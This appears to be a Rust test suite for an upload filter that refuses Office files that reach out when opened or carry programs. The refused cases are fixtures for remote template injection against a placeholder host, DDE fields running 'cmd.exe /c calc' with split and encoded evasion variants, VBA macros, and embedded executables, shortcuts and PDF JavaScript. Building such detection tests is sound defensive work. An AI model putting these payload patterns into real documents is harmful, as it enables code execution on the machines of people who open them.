//! Office files that reach out when they are opened, or hold programs: refused; what looks like that is accepted.

use nss_core::api::DraftSaved;

use super::{attached, entered, kept_bytes, refused, stored};
use crate::support::{
    content::{DOCX, PPTX, XLSX, compound, docx_with, office, relationship, workbook, zip},
    on_each_store,
};

const EXTERNAL: &str = r#"Target="http://192.0.2.9/a.dotm" TargetMode="External""#;
const PROGRAM: &[u8] = b"MZ\x90\x00\x03\x00\x00\x00 program";

fn with_relationship(kind: &str, rest: &str) -> Vec<u8> {
    office(&[DOCX], &[("word/_rels/settings.xml.rels", relationship(kind, rest).as_bytes())])
}

/// A field with its instruction in these runs.
fn field(runs: &[&str]) -> String {
    let runs = runs.join("</w:instrText></w:r><w:r><w:instrText>");
    format!(
        r#"<w:ftr xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{runs}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:ftr>"#
    )
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A record of links with that path (MS-XLS 2.4.271).
fn book_with_link(path: &[u8]) -> Vec<u8> {
    let count = u16::try_from(path.len()).unwrap().to_le_bytes();
    let record = [&[0, 0][..], &count, &[0], path].concat();
    compound(&[("/Workbook", &workbook(&[(0x01ae, &record)]))])
}

#[rustfmt::skip]
fn cases() -> Vec<(&'static str, Vec<u8>)> {
    let dde_link = r#"<externalLink xmlns:x="x"><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>"#;
    let nested = format!(r#"<w:ftr xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}</w:ftr>"#, field(&["QUOTE 68 68 69"]));
    let macros = office(&[XLSX], &[("xl/vbaProject.bin", b"a")]);
    let package = compound(&[("/ObjectPool/_1/\u{1}Ole10Native", b"a")]);
    let with_program = office(&[XLSX], &[("xl/embeddings/a.bin", PROGRAM)]);
    let mut deep = office(&[XLSX], &[]);
    for _ in 0..5 {
        deep = office(&[XLSX], &[("xl/embeddings/a.xlsx", &deep)]);
    }
    vec![
        // Followed when the file is opened.
        ("file.reaches-out", with_relationship("attachedTemplate", EXTERNAL)),
        ("file.reaches-out", with_relationship("attachedTemplate", r#"Target="a.dotm" TargetMode=" Ext&#101;rnal ""#)),
        ("file.reaches-out", with_relationship("oleObject", r#"Target="mhtml:http://192.0.2.9/!x-usc:" TargetMode="External""#)),
        ("file.reaches-out", with_relationship("frame", EXTERNAL)),
        ("file.reaches-out", with_relationship("subDocument", EXTERNAL)),
        ("file.reaches-out", with_relationship("aFChunk", r#"Target="a.html""#)),
        ("file.reaches-out", with_relationship("control", r#"Target="activeX/activeX1.xml""#)),
        ("file.reaches-out", office(&[PPTX, ("ppt/activeX/a.xml", "application/vnd.ms-office.activeX+xml")], &[])),
        // DDE.
        ("file.reaches-out", docx_with(br#"<w:ftr xmlns:w="w"><w:fldSimple w:instr=" DDEAUTO c:\\windows\\cmd.exe &quot;/c calc&quot;"/></w:ftr>"#)),
        ("file.reaches-out", docx_with(field(&["DD", "EAU", "TO c:\\cmd"]).as_bytes())),
        ("file.reaches-out", docx_with(field(&[" &#68;de cmd"]).as_bytes())),
        ("file.reaches-out", docx_with(nested.as_bytes())),
        ("file.reaches-out", docx_with(&utf16(&field(&["DDE cmd"])))),
        ("file.reaches-out", office(&[XLSX], &[("xl/externalLinks/externalLink1.xml", dde_link.as_bytes())])),
        ("file.reaches-out", office(&[XLSX], &[("xl/anything", &utf16(dde_link))])),
        ("file.reaches-out", book_with_link(b"cmd\x03/c calc")),
        // Macros by a relationship, or by their content.
        ("file.macros", with_relationship("vbaProject", r#"Target="harmless.bin""#)),
        ("file.macros", office(&[DOCX], &[("word/harmless.bin", &compound(&[("/VBA/dir", b"a")]))])),
        ("file.macros", office(&[PPTX], &[("ppt/embeddings/sheet.xlsx", &macros)])),
        ("file.macros", office(&[DOCX], &[("word/embeddings/a.bin", &compound(&[("/Package", &macros)]))])),
        // Programs, and packages that may hold one.
        ("file.embedded", office(&[DOCX], &[("word/embeddings/oleObject1.bin", PROGRAM)])),
        ("file.embedded", office(&[DOCX], &[("word/media/image1.png", b"L\x00\x00\x00\x01\x14\x02\x00 shortcut")])),
        ("file.embedded", office(&[DOCX], &[("word/embeddings/oleObject1.bin", &package)])),
        ("file.embedded", office(&[PPTX], &[("ppt/embeddings/sheet.xlsx", &with_program)])),
        ("file.embedded", office(&[XLSX], &[("xl/embeddings/a.zip", &zip(&[("a.js", b"a")]))])),
        ("file.embedded", compound(&[("/Workbook", &workbook(&[])), ("/MBD00000001/\u{1}Ole10Native", b"a")])),
        ("file.embedded", compound(&[("/Workbook", &workbook(&[])), ("/MBD00000001/CONTENTS", PROGRAM)])),
        ("file.actions", office(&[XLSX], &[("xl/embeddings/a.pdf", &crate::support::content::pdf_with("/JavaScript 1 0 R", 0))])),
        ("file.swells", deep),
    ]
}

#[tokio::test]
async fn a_document_that_reaches_out_or_holds_a_program_is_refused_in_words() {
    on_each_store(async |world| {
        let (mut browser, path) = entered(world).await;
        for (number, (code, bytes)) in cases().into_iter().enumerate() {
            let reply = browser.attach(&path, "diagram/f1lef1le", "構成図.xlsx", bytes).await;
            let message = refused(&reply, 422, code);
            assert!(
                message.starts_with("「構成図.xlsx」") && message.contains("添付してください"),
                "{number}: {message}"
            );
            // The hour's uploads are limited.
            if number % 20 == 19 {
                world.clock.pass(1200);
                assert_eq!(browser.post("/api/session/extension", &serde_json::Value::Null).await.status.as_u16(), 200);
            }
        }
        assert_eq!(kept_bytes(world), 0);
    })
    .await;
}

#[tokio::test]
async fn links_charts_drawings_and_formulas_are_accepted() {
    on_each_store(async |world| {
        let (mut browser, path) = entered(world).await;
        let link = relationship("hyperlink", r#"Target="https://nss.example.jp/" TargetMode="External""#);
        let book = relationship("externalLinkPath", r#"Target="file:///C:/a.xlsx" TargetMode="External""#);
        let visio = ("visio/document.xml", "application/vnd.ms-visio.drawing.main+xml");
        let page = field(&["PAGE  \\* MERGEFORMAT &lt;DDE&gt;"]);
        for bytes in [
            office(&[DOCX], &[("word/_rels/document.xml.rels", link.as_bytes())]),
            office(&[XLSX], &[("xl/externalLinks/_rels/externalLink1.xml.rels", book.as_bytes())]),
            office(&[XLSX], &[("xl/sharedStrings.xml", b"<sst><si><t>ddeLink, instrText: DDE</t></si></sst>")]),
            docx_with(page.as_bytes()),
            docx_with(br#"<w:ftr xmlns:w="w"><w:fldSimple w:instr=" HYPERLINK &quot;DDE&quot; "/></w:ftr>"#),
            office(&[PPTX], &[("ppt/embeddings/Microsoft_Excel_Sheet.xlsx", &office(&[XLSX], &[]))]),
            office(&[DOCX], &[("word/embeddings/Visio.vsdx", &office(&[visio], &[]))]),
            office(&[DOCX], &[("word/embeddings/oleObject1.bin", &compound(&[("/Equation Native", b"a")]))]),
            // The path of another workbook.
            book_with_link(b"\x01\x01C\x03a\x03b.xls"),
        ] {
            let draft = stored(&mut browser, &path).await;
            let mut emptied = draft.draft;
            emptied.rows.clear();
            let emptied = serde_json::json!({ "revision": draft.revision, "draft": emptied });
            let saved: DraftSaved = browser.put(&path, &emptied).await.read();
            let row = format!("diagram/r{:07}", saved.revision);
            attached(&browser.attach(&path, &row, "構成図.xlsx", bytes).await);
        }
    })
    .await;
}
